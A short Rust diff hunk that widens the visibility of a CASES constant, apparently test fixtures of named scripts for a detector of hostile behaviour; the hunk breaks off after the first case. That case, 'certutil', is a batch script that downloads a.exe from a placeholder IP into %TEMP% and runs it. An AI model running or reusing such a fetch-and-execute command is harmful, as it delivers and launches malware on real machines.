@@ -2,7 +2,7 @@
 //! for documentation; nothing is there.
 
 /// Name, script, acts.
-pub(super) const CASES: &[(&str, &str, &[&str])] = &[
+pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "certutil",
         "@echo off\ncertutil -urlcache -split -f http://192.0.2.7/a.exe %TEMP%\\a.exe\nstart \"\" %TEMP%\\a.exe\n",
